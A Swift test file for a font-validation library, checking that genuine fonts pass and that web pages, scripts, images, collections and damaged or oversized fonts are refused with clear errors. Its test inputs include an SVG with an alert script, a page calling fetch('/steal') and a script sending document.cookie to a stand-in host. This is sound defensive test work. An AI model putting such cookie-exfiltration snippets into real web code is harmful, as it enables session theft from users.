import Foundation
import Testing

@testable import FontProcessing

/// A file is a font by its structure: real fonts pass whatever their name; pages, scripts,
/// images, collections and cut or damaged fonts are refused with what they are.
struct FontFileStructureTests {
    @Test(arguments: [DebianFonts.charis, DebianFonts.abyssinica, DebianFonts.scheherazade, DebianFonts.padauk])
    func aTrueTypeFontIsOne(_ font: DebianFonts.Font) throws {
        #expect(try FontFileStructure.format(of: try font.bytes()) == .trueType)
    }

    @Test func anOpenTypeFontWithCFFOutlinesIsOne() throws {
        #expect(try FontFileStructure.format(of: try DebianFonts.c059.bytes()) == .openType)
    }

    @Test func aWOFFFontIsOneByItsHeader() throws {
        let woff = WOFFWrapping.wrap(try DebianFonts.charis.bytes())
        #expect(try FontFileStructure.format(of: woff) == .woff)
    }

    @Test(arguments: [
        (
            "an SVG font with a script",
            #"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><defs><font id="f"/></defs></svg>"#, "an SVG document"
        ),
        ("a web page", "<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>", "a web page"),
        ("a script", "document.cookie = 'x';\nnavigator.sendBeacon('https://example.com', document.cookie);\n", "a text file"),
        ("a script in UTF-8", "// Привет\nconsole.log('ሰላም');\n", "a text file"),
    ])
    func textIsNoFont(_ what: String, _ text: String, _ said: String) {
        #expect(throws: FontStructureProblem.self, "\(what)") { try FontFileStructure.format(of: Array(text.utf8)) }
        #expect(problem(Array(text.utf8))?.contains(said) == true, "\(what): \(problem(Array(text.utf8)) ?? "accepted")")
    }

    @Test func aPNGRenamedAsAFontIsNoFont() {
        let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13] + Array("IHDR".utf8) + [UInt8](repeating: 1, count: 17)
        #expect(problem(png) == "it is a PNG image")
    }

    @Test func aCollectionIsRefusedAsOne() throws {
        // One font in a collection: 'ttcf', version 1.0, one font whose directory is at byte 16.
        let font = try DebianFonts.charis.bytes()
        let collection = Array("ttcf".utf8) + [0, 1, 0, 0, 0, 0, 0, 1, 0, 0, 0, 16] + font
        #expect(problem(collection)?.contains("font collection") == true, "\(problem(collection) ?? "accepted")")
    }

    @Test func aFontCutShortIsRefused() throws {
        let font = try DebianFonts.charis.bytes()
        let cut = Array(font.prefix(font.count / 2))
        #expect(problem(cut)?.contains("lies outside the file") == true, "\(problem(cut) ?? "accepted")")
        #expect(problem(Array(font.prefix(40)))?.contains("runs past the end of the file") == true)
        #expect(problem(Array(font.prefix(6)))?.contains("ends inside its header") == true)
    }

    @Test func aTableRecordPointingPastTheEndIsRefused() throws {
        var font = try DebianFonts.charis.bytes()
        let record = try #require(recordOffset(of: "glyf", in: font))
        // Its length, the record's last four bytes, made larger than the file.
        font.replaceSubrange(record + 12..<record + 16, with: [0x7F, 0xFF, 0xFF, 0xFF])
        #expect(problem(font)?.contains("its 'glyf' table") == true, "\(problem(font) ?? "accepted")")
    }

    @Test func aFontWithoutACharacterMapIsRefused() throws {
        var font = try DebianFonts.charis.bytes()
        let record = try #require(recordOffset(of: "cmap", in: font))
        font.replaceSubrange(record..<record + 4, with: Array("cmaq".utf8))
        #expect(problem(font)?.contains("lacks the 'cmap' table") == true, "\(problem(font) ?? "accepted")")
    }

    @Test func aWOFFWhoseLengthDisagreesWithTheFileIsRefused() throws {
        let woff = WOFFWrapping.wrap(try DebianFonts.abyssinica.bytes())
        #expect(problem(Array(woff.dropLast(4)))?.contains("its WOFF header says it is") == true)
        #expect(problem(woff + [0, 0, 0, 0])?.contains("its WOFF header says it is") == true)
    }

    /// An empty table is checked as any other: one placed far past the file's end passed,
    /// and unwrapping the font then trapped on it.
    @Test func aWOFFWithAnEmptyTableFarPastItsEndIsRefusedAndNotUnwrapped() throws {
        let woff = try WOFFWrapping.wrap(
            try DebianFonts.abyssinica.bytes(), compressed: false, extraEntries: [.init(tag: Array("zzzz".utf8), offset: 0x7FFF_FF00)])
        #expect(problem(woff)?.contains("its 'zzzz' table (0 bytes at byte 2147483392) lies outside the file") == true, "\(problem(woff) ?? "accepted")")
        #expect(throws: FontProcessingFailure.self) { try WOFFDecoder.sfnt(from: woff) }
        #expect(throws: FontProcessingFailure.self) { try WebFontMaker.sfnt(from: woff) }
    }

    /// An sfnt's header holds `searchRange` in 16 bits: 4096 tables overflowed it when a WOFF of
    /// them was unwrapped. A directory of more than ``FontFileStructure/mostTables`` tables
    /// is refused, in every format.
    @Test(arguments: [FontFileStructure.mostTables + 1, 4096, 65535])
    func aDirectoryOfTooManyTablesIsRefused(_ count: Int) throws {
        let font = try DebianFonts.abyssinica.bytes()
        let fontCount = Int(font[4]) << 8 | Int(font[5])
        let extras = (0..<(count - fontCount)).map { WOFFWrapping.ExtraEntry(tag: [0x78, UInt8($0 >> 8), UInt8($0 & 0xFF), 0x78], offset: 44) }
        let woff = try WOFFWrapping.wrap(font, compressed: false, extraEntries: extras)
        let said = "its table directory lists \(count) tables, more than the \(FontFileStructure.mostTables) the build takes"
        #expect(problem(woff)?.hasPrefix(said) == true, "\(problem(woff) ?? "accepted")")
        #expect(throws: FontProcessingFailure.self) { try WOFFDecoder.sfnt(from: woff) }
        var sfnt = font
        sfnt.replaceSubrange(4..<6, with: [UInt8(count >> 8), UInt8(count & 0xFF)])
        #expect(problem(sfnt)?.hasPrefix(said) == true, "\(problem(sfnt) ?? "accepted")")
    }

    /// The most tables taken still unwrap into an sfnt whose header HarfBuzz reads.
    @Test func aWOFFOfTheMostTablesTakenUnwraps() throws {
        let font = try DebianFonts.abyssinica.bytes()
        let fontCount = Int(font[4]) << 8 | Int(font[5])
        let count = FontFileStructure.mostTables
        let extras = (0..<(count - fontCount)).map {
            WOFFWrapping.ExtraEntry(tag: [0x78, UInt8($0 >> 8), UInt8($0 & 0xFF), 0x78], offset: 44 + 20 * count)
        }
        let sfnt = try WOFFDecoder.sfnt(from: try WOFFWrapping.wrap(font, compressed: false, extraEntries: extras))
        #expect(try SFNTDirectory.records(of: sfnt).count == count)
        #expect(try FontFileStructure.format(of: sfnt) == .trueType)
        // searchRange, entrySelector and rangeShift for 256 tables: 4096, 8, 0.
        #expect(Array(sfnt[6..<12]) == [0x10, 0x00, 0x00, 0x08, 0x00, 0x00])
    }

    @Test func anSFNTWithAnEmptyTableFarPastItsEndIsRefused() throws {
        var font = try DebianFonts.charis.bytes()
        let record = try #require(recordOffset(of: "DSIG", in: font) ?? recordOffset(of: "post", in: font))
        font.replaceSubrange(record + 8..<record + 16, with: [0x7F, 0xFF, 0xFF, 0x00, 0, 0, 0, 0])
        #expect(problem(font)?.contains("(0 bytes at byte 2147483392) lies outside the file") == true, "\(problem(font) ?? "accepted")")
    }

    @Test func anEmptyFileIsNoFont() {
        #expect(problem([]) == "the file is empty")
    }

    private func problem(_ bytes: [UInt8]) -> String? {
        do {
            _ = try FontFileStructure.format(of: bytes)
            return nil
        } catch {
            return error.description
        }
    }

    /// Where the directory record of `tag` starts in an sfnt.
    private func recordOffset(of tag: String, in font: [UInt8]) -> Int? {
        let count = Int(font[4]) << 8 | Int(font[5])
        return (0..<count).map { 12 + 16 * $0 }.first { Array(font[$0..<$0 + 4]) == Array(tag.utf8) }
    }
}

/// An sfnt wrapped as WOFF 1.0: its tables stored as they are (a table whose compressed and
/// original lengths are equal is not compressed), or compressed with zlib (Python's, which the
/// tests have: this target has no zlib of its own).
enum WOFFWrapping {
    static func wrap(_ sfnt: [UInt8]) -> [UInt8] {
        // Never throws: nothing is compressed.
        (try? wrap(sfnt, compressed: false)) ?? []
    }

    /// One more directory entry, written as it is given: tag, offset, compressed and original
    /// length.
    struct ExtraEntry {
        var tag: [UInt8]
        var offset: Int
        var compressedLength = 0
        var originalLength = 0
    }

    /// `extraEntries` are listed after the font's tables, with no data of their own.
    static func wrap(_ sfnt: [UInt8], compressed: Bool, extraEntries: [ExtraEntry] = []) throws -> [UInt8] {
        func u16(_ value: Int) -> [UInt8] { [UInt8(truncatingIfNeeded: value >> 8), UInt8(truncatingIfNeeded: value)] }
        func u32(_ value: Int) -> [UInt8] { u16(value >> 16) + u16(value & 0xFFFF) }
        func read32(_ at: Int) -> Int { Int(sfnt[at]) << 24 | Int(sfnt[at + 1]) << 16 | Int(sfnt[at + 2]) << 8 | Int(sfnt[at + 3]) }
        let fontCount = Int(sfnt[4]) << 8 | Int(sfnt[5])
        let count = fontCount + extraEntries.count
        var directory: [UInt8] = []
        var data: [UInt8] = []
        var offset = 44 + 20 * count
        for index in 0..<fontCount {
            let record = 12 + 16 * index
            let (tableOffset, length) = (read32(record + 8), read32(record + 12))
            let table = Array(sfnt[tableOffset..<tableOffset + length])
            let deflated = compressed ? try zlibCompressed(table) : table
            let stored = deflated.count < table.count ? deflated : table
            directory += Array(sfnt[record..<record + 4]) + u32(offset) + u32(stored.count) + u32(length) + Array(sfnt[record + 4..<record + 8])
            let padded = stored + [UInt8](repeating: 0, count: (4 - stored.count % 4) % 4)
            data += padded
            offset += padded.count
        }
        for extra in extraEntries {
            directory += extra.tag + u32(extra.offset) + u32(extra.compressedLength) + u32(extra.originalLength) + u32(0)
        }
        let total = 44 + directory.count + data.count
        let header =
            Array("wOFF".utf8) + Array(sfnt[0..<4]) + u32(total) + u16(count) + u16(0) + u32(sfnt.count) + u16(1) + u16(0)
            + [UInt8](repeating: 0, count: 20)
        return header + directory + data
    }

    private static func zlibCompressed(_ bytes: [UInt8]) throws -> [UInt8] {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", "import sys, zlib; sys.stdout.buffer.write(zlib.compress(sys.stdin.buffer.read(), 9))"]
        let input = Pipe()
        let output = Pipe()
        process.standardInput = input
        process.standardOutput = output
        try process.run()
        // Written from another thread, so that neither pipe can fill and block the other.
        let writer = Thread {
            input.fileHandleForWriting.write(Data(bytes))
            try? input.fileHandleForWriting.close()
        }
        writer.start()
        let compressed = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        guard process.terminationStatus == 0 else { throw CocoaError(.fileWriteUnknown) }
        return [UInt8](compressed)
    }
}

/// A font larger than any a carousel needs is refused by its size before anything of it is
/// read: Debian's largest font files (Noto Serif CJK's collections) are 27 MB.
struct FontSizeLimitTests {
    /// A real font's bytes followed by zeros up to `byteCount`, none of them held in memory.
    struct PaddedFont: FontBytes {
        let font: [UInt8]
        let byteCount: Int

        func bytes(from offset: Int, count: Int) -> [UInt8]? {
            guard offset >= 0, count >= 0, offset <= byteCount - count else { return nil }
            return (offset..<offset + count).map { $0 < font.count ? font[$0] : 0 }
        }
    }

    @Test func aFontAsLargeAsTheLargestRealOneIsTaken() throws {
        let font = PaddedFont(font: try DebianFonts.charis.bytes(), byteCount: 27_290_960)
        #expect(try FontFileStructure.format(of: font) == .trueType)
    }

    @Test func aFontOf40MBIsRefusedForItsSize() throws {
        let font = PaddedFont(font: try DebianFonts.charis.bytes(), byteCount: 40 << 20)
        #expect(throws: FontStructureProblem("it is 40 MB, more than the 32 MB the build takes of a font")) { try FontFileStructure.format(of: font) }
    }

    /// The woff2 decoder writes the font into the totalSfntSize bytes its header gives: one
    /// smaller than the directory's tables need is refused by lint, naming the field, and a
    /// build says the same.
    @Test func aWOFF2WhoseTotalSfntSizeIsTooSmallIsRefusedNamingIt() throws {
        var woff2 = try WOFF2Codec.encode(try DebianFonts.abyssinica.bytes())
        #expect(try FontFileStructure.format(of: woff2) == .woff2)
        let needed = Int(woff2.uint32(at: 16))
        woff2.replaceSubrange(16..<20, with: [0, 0, 0x0F, 0xA0])
        let said = "its WOFF2 header's totalSfntSize (4000 bytes) is less than the \(needed) bytes its table directory says the font is decoded: it is damaged"
        #expect(throws: FontStructureProblem(said)) { try FontFileStructure.format(of: woff2) }
        #expect(throws: FontProcessingFailure("the woff2 decoder cannot decode it: " + said)) { try WOFF2Codec.decode(woff2) }
    }
}
